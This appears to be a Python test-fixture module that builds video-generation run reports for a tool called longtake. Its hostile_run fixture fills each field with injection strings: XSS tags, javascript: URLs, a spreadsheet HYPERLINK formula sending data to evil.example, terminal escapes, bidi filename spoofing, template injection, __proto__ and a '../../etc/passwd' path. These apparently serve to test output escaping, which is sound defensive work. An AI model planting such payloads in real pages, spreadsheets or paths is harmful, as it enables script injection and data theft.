"""Runs as the report sees them: tidy ones, ones that go on, and one whose every text is out to do harm."""

from __future__ import annotations

import random
from typing import Any

from longtake.domain.verdicts import facts_of
from longtake.reports.run.view import ReelView, ReportView, ShotView, Totals, VendorTotals

BEGIN = 1_795_000_000.0
VENDORS = {
    "evolink": "seedance-2.0-mini",
    "powertokens": "doubao-seedance-2-0-mini",
    "anyfast": "seedance-mini",
    "jimmyai": "seedance-2.0-fast",
}
SUBJECTS = (
    "A lighthouse keeper",
    "Two foxes",
    "A red tram",
    "An old violin maker",
    "The harbour pilot",
    "A paper kite",
)
SCENES = (
    "walks along the breakwater at first light, long lens, gulls crossing the frame, the sea almost still",
    "cross a snowy orchard; the camera follows at shoulder height and settles on the tracks they leave",
    "turns into the narrow street, rain on the windows, neon in the puddles, slow dolly to the left",
    "holds the work against the window and waits; dust in the light, handheld, 35 mm, shallow focus",
)
REASONS = {
    "content_refused": "the vendor's moderation refused the output: 'OutputVideoSensitiveContentDetected'",
    "failed": "the job failed: internal error at the vendor (code 50430), retryable",
    "unknown_outcome": "the connection was lost 60.0 s into the submit; it may have arrived",
    "held": "the budget of 20.00 USD does not admit this reel",
    "blocked": "an earlier shot of this chain is failed",
    "bad_clip": "the clip shows 41 black pictures from 2.10 s on",
}
EVIL = [
    "<script>alert(1)</script>",
    "</script><script>window.harmed = 1</script>",
    "\"><img src=x onerror='window.harmed=1'>",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "javascript:window.harmed=1",
    "bell \x07 escape \x1b[2J\x1b]0;owned\x07 null \x00 delete \x7f c1 \x9b31m",
    "txt.\u202eexe.gnp\u202c isolate \u2067 never closed",
    "{{ 7 * 7 }} {% raw %} ${7*7} `x` \\u003cscript>",
    "<!--<script> ]]> & &lt; &#x3c; ' \" \u2028 \u2029 \ud800",
    "[red]markup[/red] [link=http://evil.example]x[/link]",
    "עברית ثم English 日本語 👩‍👩‍👧‍👦 z̷̛̪a̴̰͝l̶̙̈́g̸̱̓o̷",
    "x" * 3000,
]


def shot(reel: str, number: int, verdict: str = "done", begin: float = BEGIN, **given: Any) -> ShotView:
    """A shot with everything filled in that its verdict allows."""
    chance = random.Random(f"{reel}/{number}")
    vendor = given.pop("vendor", chance.choice(list(VENDORS)))
    submitted = begin + chance.uniform(4, 40)
    started = submitted + chance.uniform(3, 50)
    finished = started + chance.uniform(55, 170)
    bought = verdict not in ("held", "blocked", "refused", "not_started", "waiting")
    ended = bought and verdict not in ("queued", "running", "unknown_outcome", "still_running")
    done = verdict == "done"
    low = round(5.04 * chance.choice((0.0151, 0.0252, 0.0483)), 4)
    told: dict[str, Any] = {
        "row": number,
        "reel": reel,
        "shot": str(number),
        "shot_id": f"{reel}/{number}",
        "take": 1,
        "prompt": f"{chance.choice(SUBJECTS)} {chance.choice(SCENES)}.",
        "verdict": verdict,
        "evidence": REASONS.get(verdict, ""),
        "next_action": facts_of(verdict).next_action,
        "vendor": vendor,
        "wire_model": VENDORS.get(vendor, "seedance"),
        "job_id": f"cgt-{chance.randrange(16**8):08x}" if bought and verdict != "unknown_outcome" else "",
        "price_low_usd": low,
        "price_high_usd": round(low * chance.choice((1, 1, 1.2)), 4),
        "waiting_since": begin,
        "submitted_at": submitted if bought else None,
        "started_running_at": started if bought and verdict not in ("queued", "unknown_outcome") else None,
        "finished_at": finished if ended else None,
        "downloaded_at": finished + chance.uniform(1, 9) if done else None,
        "continues_from": f"{reel}/{number - 1}" if number > 1 else "",
        "extra": {"scene": "harbour", "director": "Ana"},
    }
    if done:
        told |= {"width": 1280, "height": 720, "clip_seconds": 5.04, "usage": {"total_tokens": 108_900}}
    return ShotView(**told | given)


def run_of(reels: list[ReelView], *, finished: bool = True, written_at: float | None = None) -> ReportView:
    """A report of these reels with totals that fit."""
    shots = [one for reel in reels for one in reel.shots]
    latest = max([BEGIN, *(one.downloaded_at or one.finished_at or one.submitted_at or BEGIN for one in shots)])

    def totals(some: list[ShotView]) -> dict[str, Any]:
        bought = [one for one in some if one.submitted_at]
        return {
            "done": sum(one.verdict == "done" for one in some),
            "all": len(some),
            "spent_low_usd": sum(one.price_low_usd or 0 for one in bought),
            "spent_high_usd": sum(one.price_high_usd or 0 for one in bought),
            "projected_low_usd": sum(one.price_low_usd or 0 for one in some),
            "projected_high_usd": sum(one.price_high_usd or 0 for one in some),
            "charged_but_failed_usd": sum(one.price_high_usd or 0 for one in bought if one.verdict == "bad_clip"),
        }

    def of_vendor(vendor: str) -> VendorTotals:
        own = [one for one in shots if one.vendor == vendor]
        counts = {name: sum(one.verdict == name for one in own) for name in ("queued", "running")}
        return VendorTotals(vendor=vendor, **counts, **totals(own), reported="reports 1.1 % less than our figure")

    return ReportView(
        title="Autumn storyboard",
        output="/srv/films/autumn-storyboard/out",
        written_at=written_at or latest + 5,
        finished=finished,
        run="keen-otter",
        totals=Totals(**totals(shots)),
        by_vendor=[of_vendor(vendor) for vendor in dict.fromkeys(one.vendor for one in shots)],
        reels=reels,
    )


def reel_of(name: str, verdicts: list[str], begin: float = BEGIN, **given: Any) -> ReelView:
    """A reel whose shots ended so."""
    shots = [shot(name, place, verdict, begin + 150 * (place - 1)) for place, verdict in enumerate(verdicts, 1)]
    missing = [one for one in shots if one.verdict != "done"]
    note = f"{len(missing)} of {len(shots)} shots are not done" if missing else ""
    return ReelView(**{"name": name, "shots": shots, "note": note} | given)


def receipt(reel: ReelView) -> dict[str, Any]:
    """What a stitch of these shots writes beside the film."""
    clips = [
        {
            "name": f"{place:05}.mp4",
            "shot_id": one.shot_id,
            "action": "copied",
            "why": "same format",
            "frames": 121,
            "trimmed_head": 0,
            "trimmed_tail": 0,
            "frames_used": 121,
            "frames_copied": 121,
            "starts_at_seconds": round(place * 121 / 24, 3),
            "sound": "copied",
        }
        for place, one in enumerate(reel.shots)
    ]
    joins = [{"at_seconds": 121 / 24, "crossfade_frames": 0, "click_ratio": 0.93}] * (len(clips) - 1)
    return {
        "reel": reel.name,
        "clips": clips,
        "joins": joins,
        "format": {"width": 1280, "height": 720, "fps": "24", "chosen": "the most frequent"},
        "frames": 121 * len(clips),
        "picture_seconds": len(clips) * 121 / 24,
        "loudness_after": {"integrated_lufs": -16.2, "true_peak_dbtp": -1.4},
        "missing": [],
    }


def large_run(reels: int, shots_each: int = 3, *, finished: bool = True) -> ReportView:
    """So many reels, one in twelve of them with trouble."""
    troubles = [["done", "content_refused"], ["failed", "blocked"], ["unknown_outcome"], ["held"], ["done", "bad_clip"]]
    made: list[ReelView] = []
    for place in range(reels):
        trouble = troubles[place // 12 % len(troubles)] if place % 12 == 7 else []
        verdicts = (trouble + [("done" if not trouble else "blocked")] * shots_each)[:shots_each]
        made.append(reel_of(f"reel-{place + 1:04}", verdicts, BEGIN + place * 14))
    return run_of(made, finished=finished)


def hostile_run() -> ReportView:
    """A run whose every text is an attack."""
    reels = [
        ReelView(
            name=text,
            note=text,
            film="reels/a film #1?.mp4",
            contact_sheet="javascript:window.harmed=1",
            receipt={
                "how": text,
                "clips": [{"shot_id": text, "action": text, "marks_lost": [f"AIGC {text}"]}],
                "format": {"width": text, "fps": text},
                "marks": {"c2pa": text, "aigc": [{"ContentProducer": text, text: text}], "other": [text]},
            },
            marks_lost=text,
            shots=[
                shot("evil", place, verdict, clip="../../etc/passwd").model_copy(
                    update=ShotView(
                        row=place, reel=text, shot=text, shot_id=text, verdict=verdict, prompt=text, evidence=text,
                        next_action=text, vendor=text, wire_model=text, job_id=text, continues_from=text, marks=text,
                        extra={text: text, "__proto__": text},
                    ).model_dump(exclude_unset=True)
                )
                for place, verdict in enumerate(("done", "failed", text), 1)
            ],
        )
        for text in EVIL
    ]  # fmt: skip
    evil = "".join(EVIL[:10])
    return run_of(reels).model_copy(update=ReportView(
        title=evil, output=evil, run=evil, notices=EVIL, written_at=BEGIN, finished=True, totals=Totals(done=1, all=2)
    ).model_dump(exclude_unset=True, exclude={"totals", "reels"}))  # fmt: skip
